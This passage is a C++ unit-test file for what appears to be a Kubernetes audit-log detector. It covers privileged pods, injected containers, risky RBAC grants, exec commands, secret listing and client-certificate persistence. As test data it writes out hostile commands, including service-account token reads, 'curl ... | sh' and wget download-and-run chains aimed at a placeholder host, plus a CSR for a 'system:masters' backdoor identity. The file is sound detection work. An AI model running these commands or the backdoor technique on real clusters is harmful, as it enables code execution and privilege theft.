// The classes of detection the audit detector must hold whatever the
// example: every pod judged whoever creates it, privilege by content, every
// system namespace, exec content and scoring, correlation in time, secrets
// dumped by anyone, client-certificate persistence, cloud platform identities.
#include <gtest/gtest.h>

#include "audit/detections.h"
#include "audit/exec_command.h"
#include "audit_test_util.h"
#include "engine/scanner.h"
#include "k8s/csr_subject.h"

namespace kg::testing {
namespace {

using rules::Severity;

// The alerts of one rule, copied (the vector run() returns is a temporary).
std::vector<audit::Alert> only(const std::vector<audit::Alert>& alerts, std::string_view id) {
  std::vector<audit::Alert> out;
  for (const auto& a : alerts) {
    if (a.rule_id == id) out.push_back(a);
  }
  return out;
}

// CSRs made with openssl req (EC P-256): base64 of the PEM, as spec.request carries it.
constexpr const char* kCsrMasters =
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIbk1JR09BZ0VBTUN3eEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6"
    "TVJFd0R3WURWUVFEREFoaQpZV05yWkc5dmNqQlpNQk1HQnlxR1NNNDlBZ0VHQ0NxR1NNNDlBd0VIQTBJQUJGTzFCVTVxVW02bHZRR2toQzFFClloZ"
    "SsrdDVXZmExcW9jL1JPZEFSaEpEQlpqSElxNjJiWWt0Z2NKRFdOK3FxOStOclJ1cDZaditSaW16TWR5QkEKZUhDZ0FEQUtCZ2dxaGtqT1BRUURBZ0"
    "5JQURCRkFpRUFtSm55L1dUN1B3R1NhUGZBWEFWMDliQlpNalIyeG5saApjMU85bk1CT3pZNENJQmUwUzdBRVBFZVRlTzRXZ3lndUNOUXlmREJEL1l"
    "OTE9TQm1aT0Q2UGVvdAotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K";
constexpr const char* kCsrNode =
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIeE1JR1lBZ0VBTURZeEZUQVRCZ05WQkFvTURITjVjM1JsYlRwdWIyUmxjekVk"
    "TUJzR0ExVUVBd3dVYzNsegpkR1Z0T201dlpHVTZkMjl5YTJWeUxURXdXVEFUQmdjcWhrak9QUUlCQmdncWhrak9QUU1CQndOQ0FBVHNMVE5sClJ0T"
    "XhqK212MmY3RklZMlYyaFk5d0NHKy9YQ01lZ1A4OEJMZ29IdWxvNzVSc1dROGREMkk1dnhaQ3NSUVdQZHIKc1dlTE1BQ0REM2FUY2tReW9BQXdDZ1"
    "lJS29aSXpqMEVBd0lEU0FBd1JRSWhBSXJhRWpuazZmZm9KN2pPeE52RAorUitXN0VIVU1WUnYrM3pBZnUxa1ZpZ1lBaUI3ODBFdm11K3JpeWhwNUt"
    "EbXFxOHoydkgwbnVqZUc1NmNob0xxCk81ZDBrZz09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=";
constexpr const char* kCsrAlice =
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIWU1JR0FBZ0VBTUI0eEREQUtCZ05WQkFvTUEyUmxkakVPTUF3R0ExVUVBd3dG"
    "WVd4cFkyVXdXVEFUQmdjcQpoa2pPUFFJQkJnZ3Foa2pPUFFNQkJ3TkNBQVNiMHF5a3pXTlAyOTRhSC8yZitpZlFrN3JIUnJkaEVBVklFY29sCkI4M"
    "3RaV0V6SXlsVlNNSnlxYUJLUHFiU3p1d0h5bGpvcTNZUDhySDR2THhLZ2lWZG9BQXdDZ1lJS29aSXpqMEUKQXdJRFJ3QXdSQUlnVEx2UzFHY0t6Sm"
    "p4YVNrcmw2eVFWeXVvNU0vUXNMbko5Z3pRWVg1aXJyc0NJQndXYlV1ZAp1cTduamRHVFl2cTk3WUkxR2lXU1Uxdjk4OExieXJJZTV6Vk0KLS0tLS1"
    "FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg==";

// A pod as a controller creates it: owner reference, template hash label.
std::string owned_pod(const std::string& name, const std::string& owner_kind, const std::string& owner,
                      const std::string& containers, const std::string& extra = "",
                      const std::string& annotations = "{}") {
  return fmt::format(
      R"({{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{}","namespace":"shop","labels":{{"app":"web","pod-template-hash":"7d9f","controller-revision-hash":"7d9f"}},"annotations":{},"ownerReferences":[{{"apiVersion":"apps/v1","kind":"{}","name":"{}","uid":"u-1","controller":true}}]}},"spec":{{"containers":[{}]{}}}}})",
      name, annotations, owner_kind, owner, containers, extra);
}

const char* controller_user(const std::string& owner_kind) {
  if (owner_kind == "ReplicaSet") return "system:serviceaccount:kube-system:replicaset-controller";
  if (owner_kind == "Job") return "system:serviceaccount:kube-system:job-controller";
  if (owner_kind == "DaemonSet") return "system:serviceaccount:kube-system:daemon-set-controller";
  if (owner_kind == "StatefulSet") return "system:serviceaccount:kube-system:statefulset-controller";
  return "system:serviceaccount:kube-system:replication-controller";
}

Ev controller_creates(const std::string& owner_kind, const std::string& name, const std::string& request,
                      const std::string& response) {
  Ev ev;
  ev.name = name;
  ev.id = "create-" + name;
  ev.user = controller_user(owner_kind);
  ev.groups = {"system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"};
  ev.user_agent = "kube-controller-manager/v1.33.13 (linux/amd64) kubernetes/x/system:serviceaccount:kube-system:x";
  ev.ip = "127.0.0.1";
  ev.request = request;
  ev.response = response;
  return ev;
}

const std::string kPrivileged = R"(,"securityContext":{"privileged":true})";

TEST(AuditClasses, EveryControllerKindsPodsAreJudgedOncePerTemplate) {
  for (std::string owner : {"ReplicaSet", "Job", "DaemonSet", "StatefulSet", "ReplicationController"}) {
    auto d = make_detector();
    std::string c = container("app", "nginx:1.25", kPrivileged);
    size_t risky = 0;
    for (int i = 0; i < 3; ++i) {
      std::string name = fmt::format("web-{}", i);
      std::string body = owned_pod(name, owner, "web-7d9f", c);
      auto alerts = run(d, controller_creates(owner, name, body, body));
      auto found = of_rule(alerts, "KG-AUD-017");
      risky += found.size();
      if (!found.empty()) {
        EXPECT_EQ(found[0]->severity, Severity::Critical) << owner;
        EXPECT_NE(evidence(*found[0], "createdBy").find(owner + " shop/web-7d9f"), std::string::npos) << owner;
      }
      EXPECT_TRUE(of_rule(alerts, "KG-AUD-005").empty()) << owner;
    }
    EXPECT_EQ(risky, 1u) << owner << ": one alert for the three replicas of one template";
    // A harmless template raises no alert: the scan rules' findings on it
    // (defaults left unset) are reported, none of them high.
    std::string plain = owned_pod("calm-0", owner, "calm", container("app", "nginx:1.25"));
    for (const auto& alert : run(d, controller_creates(owner, "calm-0", plain, plain))) {
      EXPECT_FALSE(alert.rule_id.starts_with("KG-AUD-")) << owner << " " << alert.rule_id;
      EXPECT_LT(alert.severity, Severity::High) << owner << " " << alert.rule_id;
    }
  }
}

TEST(AuditClasses, ContainerInjectedIntoAControllersPodIsKgAud005) {
  auto d = make_detector();
  // Request and stored object both in the log: what the webhook added shows.
  std::string asked = owned_pod("web-0", "ReplicaSet", "web-7d9f", container("app", "nginx:1.25"));
  std::string stored = owned_pod("web-0", "ReplicaSet", "web-7d9f",
                                 container("app", "nginx:1.25") + "," + container("helper", "evil.example/x:1"));
  auto alerts = run(d, controller_creates("ReplicaSet", "web-0", asked, stored));
  auto injected = of_rule(alerts, "KG-AUD-005");
  ASSERT_EQ(injected.size(), 1u);
  EXPECT_EQ(evidence(*injected[0], "container"), "helper");
  EXPECT_EQ(injected[0]->severity, Severity::High);
  // The next replica of the same template and injection: grouped.
  EXPECT_TRUE(only(run(d, controller_creates("ReplicaSet", "web-1", asked, stored)), "KG-AUD-005").empty());

  // Only the stored pod in the log: compared with the owner's template as the log showed it.
  auto d2 = make_detector();
  Ev rs = controller_creates("ReplicaSet", "web-7d9f", "", "");
  rs.resource = "replicasets";
  rs.group = "apps";
  rs.user = "system:serviceaccount:kube-system:deployment-controller";
  rs.response =
      R"({"kind":"ReplicaSet","apiVersion":"apps/v1","metadata":{"name":"web-7d9f","namespace":"shop"},"spec":{"template":{"spec":{"containers":[{"name":"app","image":"nginx:1.25"}]}}}})";
  EXPECT_TRUE(run(d2, rs).empty());
  auto from_owner = only(run(d2, controller_creates("ReplicaSet", "web-0", "", stored)), "KG-AUD-005");
  ASSERT_EQ(from_owner.size(), 1u);
  EXPECT_EQ(evidence(from_owner[0], "comparedWith"), "the template of ReplicaSet web-7d9f");
  // An approved injector (istio's proxy) is not reported.
  auto d3 = make_detector();
  std::string istio =
      owned_pod("web-0", "ReplicaSet", "web-7d9f",
                container("app", "nginx:1.25") + "," + container("istio-proxy", "docker.io/istio/proxyv2:1.22.0"), "",
                R"({"sidecar.istio.io/status":"{\"containers\":[\"istio-proxy\"],\"initContainers\":[]}"})");
  EXPECT_TRUE(only(run(d3, controller_creates("ReplicaSet", "web-0", asked, istio)), "KG-AUD-005").empty());
}

// The audit judges a created pod as scan judges the same manifest: every
// high finding scan makes, except a hardening field left unset.
TEST(AuditClasses, CreatedPodGetsScansVerdictExplicitRootIncluded) {
  const std::string cases[] = {
      R"(,"securityContext":{"runAsUser":0})",
      R"(,"securityContext":{"runAsNonRoot":false})",
      R"(,"securityContext":{"allowPrivilegeEscalation":true,"capabilities":{"add":["SYS_ADMIN"]}})",
      R"(,"securityContext":{"privileged":true})",
  };
  for (const auto& sc : cases) {
    std::string body = pod(container("app", "nginx:1.25", sc), R"(,"hostPID":true)");
    // Scan's verdict on the same object, as a manifest.
    const auto findings = scan_text(body, engine::Config{}, "pod.json").findings;
    ASSERT_FALSE(findings.empty()) << sc;
    auto d = make_detector();
    Ev ev;
    ev.request = ev.response = body;
    auto risky = only(run(d, ev), "KG-AUD-017");
    ASSERT_EQ(risky.size(), 1u) << sc;
    for (const auto& f : findings) {
      if (f.severity < Severity::High || audit::reports_an_omission(f)) continue;
      // Findings across objects (network policies, RBAC paths) are not a verdict on the object alone.
      const rules::RuleEntry* entry = catalog().find(f.rule_id);
      if (entry == nullptr || entry->inventory != nullptr) continue;
      EXPECT_NE(risky[0].message.find(f.rule_id), std::string::npos) << sc << " " << f.rule_id;
    }
  }
  // Explicit root is KG-POD-003, as in scan; root left to the image is not raised in a stream of events.
  auto d = make_detector();
  Ev root;
  root.request = root.response = pod(container("app", "nginx:1.25", R"(,"securityContext":{"runAsUser":0})"));
  auto explicit_root = only(run(d, root), "KG-AUD-017");
  ASSERT_EQ(explicit_root.size(), 1u);
  EXPECT_NE(explicit_root[0].message.find("KG-POD-003"), std::string::npos) << explicit_root[0].message;
  Ev unset;
  unset.name = "plain";
  unset.request = unset.response = pod(container("app", "nginx:1.25"), "", "plain");
  EXPECT_TRUE(only(run(d, unset), "KG-AUD-017").empty());
}

Ev rbac(const std::string& verb, const std::string& resource, const std::string& name, const std::string& body,
        const std::string& ns = "") {
  Ev ev;
  ev.verb = verb;
  ev.resource = resource;
  ev.group = "rbac.authorization.k8s.io";
  ev.ns = ns;
  ev.name = name;
  ev.request = body;
  ev.response = body;
  return ev;
}

std::string role_body(const std::string& kind, const std::string& name, const std::string& rules,
                      const std::string& labels = "{}") {
  return fmt::format(
      R"({{"kind":"{}","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{{"name":"{}","labels":{}}},"rules":[{}]}})",
      kind, name, labels, rules);
}

std::string binding_body(const std::string& kind, const std::string& name, const std::string& role_kind,
                         const std::string& role, const std::string& subjects) {
  return fmt::format(
      R"({{"kind":"{}","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{{"name":"{}"}},"roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"{}","name":"{}"}},"subjects":[{}]}})",
      kind, name, role_kind, role, subjects);
}

const std::string kUserMallory = R"({"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"mallory"})";

TEST(AuditClasses, DangerousGrantsAreReadFromTheRulesWhateverTheRoleIsCalled) {
  struct Case {
    std::string rule;
    std::string grant;
  };
  const Case cases[] = {
      {R"({"apiGroups":[""],"resources":["nodes/proxy"],"verbs":["get"]})", "nodes/proxy"},
      {R"({"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]})", "pods/exec"},
      {R"({"apiGroups":[""],"resources":["pods/*"],"verbs":["create"]})", "pods/attach"},
      {R"({"apiGroups":[""],"resources":["serviceaccounts/token"],"verbs":["create"]})", "serviceaccounts/token"},
      {R"({"apiGroups":[""],"resources":["secrets"],"verbs":["list"]})", "secrets"},
      {R"({"apiGroups":["admissionregistration.k8s.io"],"resources":["mutatingwebhookconfigurations"],"verbs":["patch"]})",
       "mutatingwebhookconfigurations"},
      {R"({"apiGroups":["*"],"resources":["validatingwebhookconfigurations"],"verbs":["delete"]})",
       "validatingwebhookconfigurations"},
      {R"({"apiGroups":["certificates.k8s.io"],"resources":["certificatesigningrequests/approval"],"verbs":["update"]})",
       "certificatesigningrequests/approval"},
      {R"({"apiGroups":["certificates.k8s.io"],"resources":["signers"],"verbs":["approve"]})", "signers"},
  };
  for (const auto& c : cases) {
    auto d = make_detector();
    auto alerts =
        run(d, rbac("create", "clusterroles", "metrics-reader", role_body("ClusterRole", "metrics-reader", c.rule)));
    auto grant = of_rule(alerts, "KG-AUD-020");
    ASSERT_EQ(grant.size(), 1u) << c.rule;
    EXPECT_NE(grant[0]->message.find(c.grant), std::string::npos) << grant[0]->message;
    // Its binding, to a user, cluster-wide: critical.
    auto bound =
        only(run(d, rbac("create", "clusterrolebindings", "mr",
                         binding_body("ClusterRoleBinding", "mr", "ClusterRole", "metrics-reader", kUserMallory))),
             "KG-AUD-021");
    ASSERT_EQ(bound.size(), 1u) << c.rule;
    EXPECT_EQ(bound[0].severity, Severity::Critical);
  }
  // Reading secrets in one namespace (a Role) is an application's ordinary need.
  auto d = make_detector();
  auto ns_secrets = run(
      d, rbac("create", "roles", "reader",
              role_body("Role", "reader", R"({"apiGroups":[""],"resources":["secrets"],"verbs":["get"]})"), "shop"));
  EXPECT_TRUE(of_rule(ns_secrets, "KG-AUD-020").empty());
  // A role granting everything, whatever its name, makes its binding a cluster-admin binding.
  auto all = run(d, rbac("create", "clusterroles", "system:metrics-helper",
                         role_body("ClusterRole", "system:metrics-helper",
                                   R"({"apiGroups":["*"],"resources":["*"],"verbs":["*"]})")));
  ASSERT_EQ(of_rule(all, "KG-AUD-011").size(), 1u);
  EXPECT_EQ(of_rule(all, "KG-AUD-011")[0]->severity, Severity::Critical);
  auto bound = only(
      run(d, rbac("create", "rolebindings", "helper",
                  binding_body("RoleBinding", "helper", "ClusterRole", "system:metrics-helper", kUserMallory), "shop")),
      "KG-AUD-010");
  ASSERT_EQ(bound.size(), 1u);
  EXPECT_EQ(bound[0].severity, Severity::Critical);
}

TEST(AuditClasses, BindingsToBuiltInPowerfulRolesAndBroadGroups) {
  auto d = make_detector();
  auto crb_admin = only(run(d, rbac("create", "clusterrolebindings", "ops",
                                    binding_body("ClusterRoleBinding", "ops", "ClusterRole", "admin", kUserMallory))),
                        "KG-AUD-021");
  ASSERT_EQ(crb_admin.size(), 1u);
  EXPECT_EQ(crb_admin[0].severity, Severity::Critical);
  auto rb_edit = only(run(d, rbac("create", "rolebindings", "dev",
                                  binding_body("RoleBinding", "dev", "ClusterRole", "edit", kUserMallory), "shop")),
                      "KG-AUD-021");
  ASSERT_EQ(rb_edit.size(), 1u);
  EXPECT_EQ(rb_edit[0].severity, Severity::High);
  auto rb_kube_system =
      only(run(d, rbac("create", "rolebindings", "dev",
                       binding_body("RoleBinding", "dev", "ClusterRole", "admin", kUserMallory), "kube-system")),
           "KG-AUD-021");
  ASSERT_EQ(rb_kube_system.size(), 1u);
  EXPECT_EQ(rb_kube_system[0].severity, Severity::Critical);
  auto cluster_admin =
      only(run(d, rbac("create", "clusterrolebindings", "x",
                       binding_body("ClusterRoleBinding", "x", "ClusterRole", "cluster-admin", kUserMallory))),
           "KG-AUD-010");
  ASSERT_EQ(cluster_admin.size(), 1u);
  auto everyone = only(
      run(d, rbac("create", "clusterrolebindings", "open",
                  binding_body(
                      "ClusterRoleBinding", "open", "ClusterRole", "view",
                      R"({"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:authenticated"})"))),
      "KG-AUD-021");
  ASSERT_EQ(everyone.size(), 1u);
  EXPECT_EQ(everyone[0].severity, Severity::High);
  // view to a named user: ordinary.
  EXPECT_TRUE(run(d, rbac("create", "rolebindings", "v",
                          binding_body("RoleBinding", "v", "ClusterRole", "view", kUserMallory), "shop"))
                  .empty());
}

TEST(AuditClasses, RbacDeletesAndBuiltInChanges) {
  auto d = make_detector();
  auto builtin_delete = only(run(d, rbac("delete", "clusterrolebindings", "system:node-proxier", "")), "KG-AUD-022");
  ASSERT_EQ(builtin_delete.size(), 1u);
  EXPECT_EQ(builtin_delete[0].severity, Severity::High);
  auto plain_delete = only(run(d, rbac("delete", "rolebindings", "old", "", "shop")), "KG-AUD-022");
  ASSERT_EQ(plain_delete.size(), 1u);
  EXPECT_EQ(plain_delete[0].severity, Severity::Low);
  // A hand patch of a built-in role, known by its bootstrap label.
  Ev patch =
      rbac("patch", "clusterroles", "view",
           role_body("ClusterRole", "view", R"({"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]})",
                     R"({"kubernetes.io/bootstrapping":"rbac-defaults"})"));
  patch.request = R"({"rules":[{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}]})";
  auto alerts = run(d, patch);
  ASSERT_EQ(of_rule(alerts, "KG-AUD-022").size(), 1u);
  EXPECT_EQ(of_rule(alerts, "KG-AUD-022")[0]->severity, Severity::High);
  EXPECT_EQ(of_rule(alerts, "KG-AUD-020").size(), 1u);  // and view now reads secrets cluster-wide
  // A name starting with system: is not evidence: no bootstrap label, not built-in.
  Ev fake =
      rbac("patch", "clusterroles", "system:fake",
           role_body("ClusterRole", "system:fake", R"({"apiGroups":[""],"resources":["configmaps"],"verbs":["get"]})"));
  EXPECT_TRUE(only(run(d, fake), "KG-AUD-022").empty());
  // The control plane reconciling its defaults is not reported.
  Ev reconcile = rbac("delete", "clusterrolebindings", "system:node-proxier", "");
  reconcile.user = "system:apiserver";
  EXPECT_TRUE(run(d, reconcile).empty());
}

TEST(AuditClasses, EverySystemNamespaceAndTheConfiguredOnes) {
  for (std::string ns : {"kube-system", "kube-public", "kube-node-lease", "gke-managed-system", "platform-system"}) {
    engine::Config config;
    auto parsed = engine::parse_config("audit:\n  systemNamespaces: [platform-system]\n", ".kubeguard.yaml", catalog());
    ASSERT_TRUE(parsed.errors.empty());
    auto d = make_detector(parsed.config);
    Ev ev;
    ev.ns = ns;
    ev.request = ev.response = pod(container("app", "nginx:1.25"));
    EXPECT_EQ(only(run(d, ev), "KG-AUD-019").size(), 1u) << ns;
    Ev token;
    token.verb = "create";
    token.resource = "serviceaccounts";
    token.subresource = "token";
    token.ns = ns;
    token.name = "x";
    token.id = "token-" + ns;
    auto t = only(run(d, token), "KG-AUD-014");
    ASSERT_EQ(t.size(), 1u);
    EXPECT_EQ(t[0].severity, Severity::High) << ns;
  }
  auto d = make_detector();
  Ev app;
  app.request = app.response = pod(container("app", "nginx:1.25"));
  EXPECT_TRUE(only(run(d, app), "KG-AUD-019").empty());
  auto bad = engine::parse_config("audit:\n  systemNamespaces: 3\n  colour: blue\n", ".kubeguard.yaml", catalog());
  ASSERT_TRUE(bad.errors.empty());  // the engine keeps the section; the detector reads it
  audit::Detector wrong(catalog(), bad.config);
  ASSERT_EQ(wrong.settings_errors().size(), 2u);
  EXPECT_NE(wrong.settings_errors()[1].message.find("unknown field 'colour'"), std::string::npos);
}

Ev exec_at(const std::string& query, const std::string& id, const std::string& time = "2026-01-01T10:02:00Z") {
  Ev ev;
  ev.subresource = "exec";
  ev.uri = "/api/v1/namespaces/shop/pods/web/exec" + (query.empty() ? std::string() : "?" + query);
  ev.id = id;
  ev.time = time;
  ev.code = 400;
  return ev;
}

TEST(AuditClasses, ExecCommandFromEveryPlaceAndWhatItDoes) {
  using audit::classify;
  using audit::CommandClass;
  EXPECT_EQ(classify({"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}), CommandClass::TokenRead);
  EXPECT_EQ(classify({"sh", "-c", "TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -H x"}),
            CommandClass::TokenRead);
  EXPECT_EQ(classify({"tar", "cf", "-", "/etc/app"}), CommandClass::FileCopy);      // kubectl cp pod:/etc/app .
  EXPECT_EQ(classify({"tar", "-xmf", "-", "-C", "/tmp"}), CommandClass::FileCopy);  // kubectl cp ./x pod:/tmp
  EXPECT_EQ(classify({"sh", "-c", "curl -s http://x/i.sh | sh"}), CommandClass::DownloadAndRun);
  EXPECT_EQ(classify({"sh", "-c", "wget -O /tmp/a http://x/a && chmod +x /tmp/a && /tmp/a"}),
            CommandClass::DownloadAndRun);
  EXPECT_EQ(classify({"curl", "http://x"}), CommandClass::Downloader);
  EXPECT_EQ(classify({"tar", "--version"}), CommandClass::Other);
  EXPECT_EQ(classify({"bash"}), CommandClass::Shell);

  auto d = make_detector();
  // From the URI.
  auto uri =
      run(d, exec_at("command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken", "e1"));
  ASSERT_EQ(uri.size(), 1u);
  EXPECT_EQ(uri[0].severity, Severity::Critical);
  // From the request body (PodExecOptions), the URI without a query.
  Ev body = exec_at("", "e2", "2026-01-01T10:03:00Z");
  body.request =
      R"({"kind":"PodExecOptions","apiVersion":"v1","stdout":true,"container":"app","command":["tar","cf","-","/data"]})";
  auto copied = run(d, body);
  ASSERT_EQ(copied.size(), 1u);
  EXPECT_EQ(copied[0].severity, Severity::High);
  EXPECT_EQ(evidence(copied[0], "command"), "tar cf - /data");
  EXPECT_EQ(evidence(copied[0], "container"), "app");
  EXPECT_EQ(evidence(copied[0], "commandClass"), "file copy (tar, kubectl cp)");
}

TEST(AuditClasses, ExecThenWriteNeedsALaterWriteByThePodsAccount) {
  auto d = make_detector();
  Ev create;
  create.request = create.response = pod(container("app", "nginx"), R"(,"serviceAccountName":"builder")");
  run(d, create);
  // The pod's own service account execs into it: an exec, not the incident.
  Ev self = exec_at("command=sh", "e-self");
  self.user = "system:serviceaccount:shop:builder";
  auto alone = run(d, self);
  EXPECT_EQ(of_rule(alone, "KG-AUD-007").size(), 1u);
  EXPECT_TRUE(of_rule(alone, "KG-AUD-018").empty());
  // A write before the exec does not complete it.
  auto d2 = make_detector();
  run(d2, create);
  Ev write;
  write.verb = "patch";
  write.resource = "deployments";
  write.group = "apps";
  write.id = "w-1";
  write.time = "2026-01-01T10:01:00Z";
  write.user = "system:serviceaccount:shop:builder";
  write.request = R"({"spec":{"replicas":2}})";
  run(d2, write);
  EXPECT_TRUE(only(run(d2, exec_at("command=sh", "e-2", "2026-01-01T10:02:00Z")), "KG-AUD-018").empty());
  // A failed write took nothing.
  Ev failed = write;
  failed.id = "w-2";
  failed.time = "2026-01-01T10:01:30Z";
  EXPECT_TRUE(only(run(d2, failed), "KG-AUD-018").empty());  // earlier than the exec
  Ev later = write;
  later.id = "w-3";
  later.time = "2026-01-01T10:04:00Z";
  later.code = 403;
  later.decision = "forbid";
  EXPECT_TRUE(only(run(d2, later), "KG-AUD-018").empty());
  later.id = "w-4";
  later.code = 200;
  later.decision = "allow";
  EXPECT_EQ(only(run(d2, later), "KG-AUD-018").size(), 1u);
}

Ev secrets_list(const std::string& ns, const std::string& user, const std::string& id) {
  Ev ev;
  ev.verb = "list";
  ev.resource = "secrets";
  ev.ns = ns;
  ev.name = "";
  ev.user = user;
  ev.id = id;
  ev.level = "Metadata";
  return ev;
}

TEST(AuditClasses, SecretsDumpedByUsersAndServiceAccounts) {
  auto d = make_detector();
  auto everywhere = only(run(d, secrets_list("", "alice", "s1")), "KG-AUD-023");
  ASSERT_EQ(everywhere.size(), 1u);
  EXPECT_EQ(everywhere[0].severity, Severity::High);
  EXPECT_TRUE(run(d, secrets_list("shop", "bob", "s2")).empty());
  EXPECT_TRUE(run(d, secrets_list("billing", "bob", "s3")).empty());
  auto third = only(run(d, secrets_list("auth", "bob", "s4")), "KG-AUD-023");
  ASSERT_EQ(third.size(), 1u);
  EXPECT_EQ(evidence(third[0], "namespaces"), "shop, billing, auth");
  auto sa = run(d, secrets_list("", "system:serviceaccount:shop:ci", "s5"));
  EXPECT_EQ(of_rule(sa, "KG-AUD-023").size(), 1u);
  EXPECT_EQ(of_rule(sa, "KG-AUD-015").size(), 1u);
  // The controller manager's informers list secrets everywhere: not reported.
  EXPECT_TRUE(run(d, secrets_list("", "system:kube-controller-manager", "s6")).empty());
}

Ev csr(const std::string& verb, const std::string& name, const std::string& request, const std::string& signer,
       const std::string& user = "mallory", const std::string& subresource = "") {
  Ev ev;
  ev.verb = verb;
  ev.resource = "certificatesigningrequests";
  ev.group = "certificates.k8s.io";
  ev.ns = "";
  ev.name = name;
  ev.subresource = subresource;
  ev.user = user;
  ev.id = verb + "-" + name + subresource;
  std::string status =
      subresource == "approval" ? R"(,"status":{"conditions":[{"type":"Approved","status":"True","reason":"x"}]})" : "";
  ev.request = ev.response = fmt::format(
      R"({{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{{"name":"{}"}},"spec":{{"request":"{}","signerName":"{}","usages":["client auth"]}}{}}})",
      name, request, signer, status);
  return ev;
}

TEST(AuditClasses, ClientCertificatePersistence) {
  auto subject = k8s::csr_subject(kCsrMasters);
  ASSERT_TRUE(subject.has_value());
  EXPECT_EQ(subject->common_name, "backdoor");
  EXPECT_EQ(subject->organizations, std::vector<std::string>{"system:masters"});
  EXPECT_FALSE(k8s::csr_subject("not base64 !").has_value());
  EXPECT_FALSE(k8s::csr_subject("aGVsbG8=").has_value());  // "hello"

  auto d = make_detector();
  auto asked = only(run(d, csr("create", "bd", kCsrMasters, "kubernetes.io/kube-apiserver-client")), "KG-AUD-024");
  ASSERT_EQ(asked.size(), 1u);
  EXPECT_EQ(asked[0].severity, Severity::High);
  EXPECT_NE(evidence(asked[0], "subject").find("O=system:masters"), std::string::npos);
  auto approved =
      only(run(d, csr("update", "bd", kCsrMasters, "kubernetes.io/kube-apiserver-client", "mallory", "approval")),
           "KG-AUD-024");
  ASSERT_EQ(approved.size(), 1u);
  EXPECT_EQ(approved[0].severity, Severity::Critical);
  // Node credentials through the generic client signer are privileged too.
  EXPECT_EQ(only(run(d, csr("create", "n1", kCsrNode, "kubernetes.io/kube-apiserver-client")), "KG-AUD-024").size(),
            1u);
  // A kubelet's CSR, approved by the controller manager: nothing.
  EXPECT_TRUE(run(d, csr("create", "k1", kCsrNode, "kubernetes.io/kube-apiserver-client-kubelet")).empty());
  EXPECT_TRUE(run(d, csr("update", "k1", kCsrNode, "kubernetes.io/kube-apiserver-client-kubelet",
                         "system:serviceaccount:kube-system:certificate-controller", "approval"))
                  .empty());
  // An ordinary user's certificate approved by a person: noted, not high.
  EXPECT_TRUE(run(d, csr("create", "a1", kCsrAlice, "kubernetes.io/kube-apiserver-client")).empty());
  auto by_hand = run(d, csr("update", "a1", kCsrAlice, "kubernetes.io/kube-apiserver-client", "root", "approval"));
  ASSERT_EQ(of_rule(by_hand, "KG-AUD-024").size(), 1u);
  EXPECT_EQ(by_hand[0].severity, Severity::Medium);
}

// The API server refuses a CSR for system:masters through the client signer
// (CertificateSubjectRestriction): the event's response is a Status, the
// request body holds the subject, and the attempt is what is reported.
TEST(AuditClasses, RefusedPrivilegedCsrIsJudgedByItsRequest) {
  auto d = make_detector();
  Ev ev = csr("create", "bd2", kCsrMasters, "kubernetes.io/kube-apiserver-client");
  ev.code = 403;
  ev.response =
      R"({"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"certificatesigningrequests)"
      R"(.certificates.k8s.io \"bd2\" is forbidden: use of kubernetes.io/kube-apiserver-client signer with )"
      R"(system:masters group is not allowed","reason":"Forbidden","code":403})";
  auto refused = only(run(d, ev), "KG-AUD-024");
  ASSERT_EQ(refused.size(), 1u);
  EXPECT_EQ(refused[0].severity, Severity::High);
  EXPECT_NE(evidence(refused[0], "subject").find("O=system:masters"), std::string::npos);
  EXPECT_NE(evidence(refused[0], "outcome").find("403"), std::string::npos);
  // The same refusal without the request body: nothing to judge it by.
  ev.request.clear();
  ev.id = "no-body";
  EXPECT_TRUE(only(run(d, ev), "KG-AUD-024").empty());
}

TEST(AuditClasses, CloudPlatformIdentitiesAreTheClustersOwnAndConfigurable) {
  for (std::string user : {"eks:addon-manager", "system:gke-common-webhooks",
                           "service-123@container-engine-robot.iam.gserviceaccount.com", "aksService"}) {
    auto d = make_detector();
    Ev ev = rbac("create", "clusterrolebindings", "x",
                 binding_body("ClusterRoleBinding", "x", "ClusterRole", "cluster-admin", kUserMallory));
    ev.user = user;
    EXPECT_TRUE(run(d, ev).empty()) << user;
    Ev list = secrets_list("", user, "l");
    EXPECT_TRUE(run(d, list).empty()) << user;
  }
  auto off =
      engine::parse_config("audit:\n  cloudPlatformDefaults: false\n  platformIdentities: [\"ops-*@corp.example\"]\n",
                           ".kubeguard.yaml", catalog());
  ASSERT_TRUE(off.errors.empty());
  auto d = make_detector(off.config);
  Ev eks = secrets_list("", "eks:addon-manager", "l1");
  EXPECT_EQ(only(run(d, eks), "KG-AUD-023").size(), 1u);
  Ev ops = secrets_list("", "ops-backup@corp.example", "l2");
  EXPECT_TRUE(run(d, ops).empty());
}

}  // namespace
}  // namespace kg::testing

namespace kg::testing {
namespace {

// A rollout (a new tag of the same repository) is not an image swap.
TEST(AuditClasses, NewVersionOfTheSameImageIsARolloutNotASwap) {
  auto d = make_detector();
  Ev create;
  create.resource = "deployments";
  create.group = "apps";
  create.request = create.response = deployment(container("app", "nginx:1.25"));
  run(d, create);
  Ev bump = create;
  bump.verb = "patch";
